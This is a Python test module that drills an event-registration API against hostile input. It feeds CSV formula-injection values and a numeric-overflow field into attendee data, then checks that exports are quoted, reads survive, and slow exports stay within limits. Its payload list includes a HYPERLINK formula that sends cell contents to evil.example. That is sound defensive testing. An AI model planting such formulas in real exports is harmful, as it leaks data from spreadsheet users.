"""Hostile reads, part of the hostile scenario: what attendee-typed values and slow readers
may do to the analyst API.

The promises: no CSV cell a spreadsheet would run, however an attendee spelled their name or a
gateway its reference; no stored delivery that makes a read of the roster fail (a custom field
holding 1e200000); CSV exports read far slower than an interactive query may take arrive
whole, those over the export budget are told to retry, and the interactive reads meanwhile
answer as always.
"""

from __future__ import annotations

import asyncio
import csv
import hashlib
import io
import json
import time
from collections.abc import Iterator, Mapping
from typing import Final

import httpx
import msgspec
import psycopg

from service.config import EventConfig
from service.http.app import QUERY_TIMEOUT
from service.http.exports import FORMULA_START
from service.jte.signing import sign
from tests.drill.fuzz import OK, Probe, Tally
from tests.drill.harness import Serve
from tests.drill.report import Finding, Size
from tests.drill.snapshot import wait_until_caught_up
from tests.drill.wire import exchange, request, webhook_path, wire_headers

EXPORT_SLOTS: Final = 4  # ROLLCALL_EXPORT_CONNECTIONS of the hostile server
READ_RATE: Final = 1_000_000  # bytes a second: a slow export reader, as in issue 10
INTERACTIVE_LIMIT: Final = 2.0  # seconds an interactive read may take while exports run
_ROW_BYTES: Final = 100_000  # a big attendee's custom field (COPY hands over a row at a time)
# Names as attendees may type them, and payment references as a gateway may send them (the
# ledger trims references, so none of those begins with whitespace).
_NAMES: Final = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+48 600 100 200", "-2+3",
    "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
)  # fmt: skip
_REFERENCES: Final = ("=1+1", "+1+1", "-1+1", "@SUM(A1)")
_FORMULAS: Final = (*_NAMES, *_REFERENCES)
OVERFLOW_ID: Final = "drill-overflow"


class ExportRead(msgspec.Struct, frozen=True, kw_only=True):
    """One slow reader of the roster export: what it got, and how long it took."""

    status: int
    error: str | None = None  # the JSON error code of a refusal
    retry_after: bool = False
    whole: bool = False  # the very bytes of a fast export of the same roster
    cut: bool = False  # the transfer ended before the body's end
    megabytes: float = 0.0
    seconds: float = 0.0


class Reads(msgspec.Struct, kw_only=True):
    """Everything the hostile reads found."""

    seeded: int = 0  # hostile deliveries signed and sent
    cells: int = 0  # CSV cells checked
    formula_cells: list[str] = []  # cells a spreadsheet would run
    quoted: int = 0  # of the drill's formula values, how many came out quoted
    overflow: dict[str, str] = {}  # read -> what it answered
    exports: list[ExportRead] = []
    export_mb: float = 0.0
    interactive: list[float] = []  # seconds, each interactive read during the exports
    interactive_failed: list[str] = []


def hostile_reads(
    server: Serve, url: str, event: EventConfig, read: str, size: Size, tally: Tally
) -> Reads:
    """Formula values and an overflowing field, signed and read back; then slow exports."""
    reads = Reads()
    reads.seeded = _deliver(server.port, event, _hostile_attendees(), tally)
    wait_until_caught_up(url, 60)
    headers = {"authorization": f"Bearer {read}"}
    with httpx.Client(base_url=server.url, headers=headers, timeout=60) as client:
        _read_cells(client, reads)
        _read_overflow(client, url, reads)
    rows = max(1, round(size.export_mb * 1_000_000 / _ROW_BYTES))
    _deliver(server.port, event, _big_attendees(rows), tally)
    wait_until_caught_up(url, 120)
    asyncio.run(_slow_exports(server.url, headers, size.slow_exports, reads))
    return reads


def check_reads(finding: Finding, reads: Reads, size: Size) -> None:
    """Record on `finding` every promise of the hostile reads that did not hold."""
    finding.check(
        not reads.formula_cells, f"CSV cells a spreadsheet runs: {reads.formula_cells[:3]}"
    )
    finding.check(
        reads.quoted == len(_FORMULAS),
        f"{reads.quoted} of {len(_FORMULAS)} formula values exported quoted",
    )
    broken = {what: answer for what, answer in reads.overflow.items() if answer != "ok"}
    finding.check(not broken, f"a field of 1e200000 broke reads: {broken}")
    finding.check(len(reads.overflow) == 4, "not every read of the overflowing field ran")
    accepted = [e for e in reads.exports if e.status == 200]
    refused = [e for e in reads.exports if e.status != 200]
    finding.check(
        len(reads.exports) == size.slow_exports, f"only {len(reads.exports)} slow exports ran"
    )
    finding.check(
        len(accepted) == min(EXPORT_SLOTS, size.slow_exports),
        f"{len(accepted)} slow exports answered 200, not {EXPORT_SLOTS}",
    )
    short = [e for e in accepted if not e.whole]
    finding.check(not short, f"{len(short)} slow exports arrived incomplete or different")
    finding.check(
        all(e.status == 503 and e.error == "too_many_exports" and e.retry_after for e in refused),
        f"exports over the budget answered {sorted({(e.status, e.error) for e in refused})}",
    )
    slowest = max((e.seconds for e in accepted), default=0.0)
    finding.check(
        slowest > QUERY_TIMEOUT,
        f"the slow readers took {slowest:.1f} s: not slower than a query may take",
    )
    finding.check(
        not reads.interactive_failed,
        f"interactive reads during the exports failed: {reads.interactive_failed[:3]}",
    )
    finding.check(
        bool(reads.interactive) and max(reads.interactive) < size.within(INTERACTIVE_LIMIT),
        f"an interactive read during the exports took {max(reads.interactive, default=0):.1f} s",
    )


def reads_figures(reads: Reads) -> str:
    accepted = [e for e in reads.exports if e.status == 200]
    refused = len(reads.exports) - len(accepted)
    seconds = [e.seconds for e in accepted] or [0.0]
    return (
        f"CSV: {len(reads.formula_cells)} of {reads.cells:,} cells begin with a formula "
        f"character, {reads.quoted} formula values exported quoted; a field of 1e200000: "
        f"{', '.join(f'{what} {answer}' for what, answer in reads.overflow.items())}; "
        f"{len(reads.exports)} slow export readers at {READ_RATE / 1e6:.0f} MB/s: "
        f"{sum(e.whole for e in accepted)} got the whole {reads.export_mb:.0f} MB file in "
        f"{min(seconds):.1f}-{max(seconds):.1f} s, {refused} got 503 too_many_exports; "
        f"{len(reads.interactive)} interactive reads meanwhile, slowest "
        f"{max(reads.interactive, default=0) * 1000:.0f} ms"
    )


# --- Seeding ---------------------------------------------------------------------------------


def _hostile_attendees() -> Iterator[bytes]:
    """Registrations and payments whose values are formulas, and one overflowing field."""
    for n, name in enumerate(_NAMES):
        attendee = {"id": f"drill-formula-{n}", "firstName": name, "lastName": "Formula"}
        yield _body("AttendeeRegistered", f"drill-formula-{n}", attendee)
    for n, reference in enumerate(_REFERENCES):
        payment = {"amount": "12.50", "currency": "PLN", "method": "payu", "reference": reference}
        paid = {"id": f"drill-formula-{n}", "payment": payment}
        yield _body("AttendeePaymentConfirmed", f"drill-formula-pay-{n}", paid)
    yield (
        b'{"event":"AttendeeRegistered","id":"drill-overflow","attendee":{"id":"%s",'
        b'"firstName":"Over","lastName":"Overflow","customField":1e200000}}' % OVERFLOW_ID.encode()
    )


def _big_attendees(rows: int) -> Iterator[bytes]:
    for n in range(rows):
        attendee = {"id": f"drill-big-{n}", "lastName": f"Big{n:03d}", "notes": "b" * _ROW_BYTES}
        yield _body("AttendeeRegistered", f"drill-big-{n}", attendee)


def _body(event_type: str, delivery_id: str, attendee: Mapping[str, object]) -> bytes:
    return json.dumps({"event": event_type, "id": delivery_id, "attendee": attendee}).encode()


def _deliver(port: int, event: EventConfig, bodies: Iterator[bytes], tally: Tally) -> int:
    """Sign and send each body, one at a time, counted like every other drill request."""
    sent = 0
    for body in bodies:
        sent += 1
        headers = wire_headers(sign(event, body, now=time.time()))
        wire = request(b"POST", webhook_path(event.slug), headers, body)
        probe = Probe(kind="hostile read seed", wire=wire, expect=OK, genuine=(event.slug, body))
        tally.add(probe, asyncio.run(exchange(port, wire)))
    return sent


# --- Reading ---------------------------------------------------------------------------------


def _read_cells(client: httpx.Client, reads: Reads) -> None:
    """Every cell of the roster and payments exports: none may begin with a formula
    character, and each of the drill's formula values must be there, quoted."""
    quoted = {"'" + value for value in _FORMULAS}
    for path in ("/v1/events/default/roster?format=csv", "/v1/events/default/payments?format=csv"):
        answer = client.get(path)
        if answer.status_code != 200:
            reads.formula_cells.append(f"{path} answered {answer.status_code}")
            continue
        for row in csv.reader(io.StringIO(answer.text, newline="")):
            for cell in row:
                reads.cells += 1
                if cell.startswith(FORMULA_START):
                    reads.formula_cells.append(cell[:40])
                reads.quoted += cell in quoted


def _read_overflow(client: httpx.Client, url: str, reads: Reads) -> None:
    """Every read of the roster, with the overflowing field stored."""

    def outcome(answer: httpx.Response, found: bool) -> str:
        if answer.status_code != 200:
            return str(answer.status_code)
        return "ok" if found else "answered without the attendee's field"

    page = client.get("/v1/events/default/roster?q=Overflow")
    items = page.json().get("items", []) if page.status_code == 200 else []
    reads.overflow["JSON"] = outcome(page, any(_kept(i.get("fields")) for i in items))
    exported = client.get("/v1/events/default/roster?format=csv")
    reads.overflow["CSV"] = outcome(exported, OVERFLOW_ID in exported.text)
    one = client.get(f"/v1/events/default/attendees/{OVERFLOW_ID}")
    attendee = one.json().get("attendee", {}) if one.status_code == 200 else {}
    reads.overflow["attendee"] = outcome(one, _kept(attendee.get("fields")))
    try:
        with psycopg.connect(url) as conn:
            rows = conn.execute("SELECT * FROM analytics.roster").fetchall()
        reads.overflow["SQL"] = "ok" if rows else "no rows"
    except psycopg.Error as error:
        reads.overflow["SQL"] = type(error).__name__


def _kept(fields: object) -> bool:
    return isinstance(fields, dict) and fields.get("customField") == "1E+200000"


async def _slow_exports(base_url: str, headers: dict[str, str], count: int, reads: Reads) -> None:
    """`count` readers of the roster export at once, each at READ_RATE; interactive reads
    meanwhile, until every reader is done."""
    limits = httpx.Limits(max_connections=count + 4)
    async with httpx.AsyncClient(
        base_url=base_url, headers=headers, timeout=120, limits=limits
    ) as client:
        reference = await client.get("/v1/events/default/roster?format=csv")
        digest = hashlib.sha256(reference.content).digest()
        reads.export_mb = len(reference.content) / 1e6
        readers = [asyncio.create_task(_slow_export(client, digest)) for _ in range(count)]
        while not all(reader.done() for reader in readers):
            for path in ("/v1/events/default/occupancy", "/v1/events/default/roster?limit=50"):
                started = time.monotonic()
                try:
                    answer = await client.get(path)
                    if answer.status_code != 200:
                        reads.interactive_failed.append(f"{path}: {answer.status_code}")
                except httpx.HTTPError as error:
                    reads.interactive_failed.append(f"{path}: {type(error).__name__}")
                reads.interactive.append(time.monotonic() - started)
            await asyncio.sleep(0.25)
        reads.exports = [reader.result() for reader in readers]


async def _slow_export(client: httpx.AsyncClient, digest: bytes) -> ExportRead:
    started = time.monotonic()
    body = bytearray()
    async with client.stream("GET", "/v1/events/default/roster?format=csv") as answer:
        if answer.status_code != 200:
            refusal = await answer.aread()
            error = json.loads(refusal).get("error") if refusal.startswith(b"{") else None
            return ExportRead(
                status=answer.status_code,
                error=error,
                retry_after="retry-after" in answer.headers,
                seconds=time.monotonic() - started,
            )
        cut = False
        try:
            async for chunk in answer.aiter_raw():
                body += chunk
                ahead = len(body) / READ_RATE - (time.monotonic() - started)
                if ahead > 0:
                    await asyncio.sleep(ahead)
        except httpx.HTTPError:
            cut = True
    return ExportRead(
        status=200,
        whole=not cut and hashlib.sha256(body).digest() == digest,
        cut=cut,
        megabytes=len(body) / 1e6,
        seconds=time.monotonic() - started,
    )
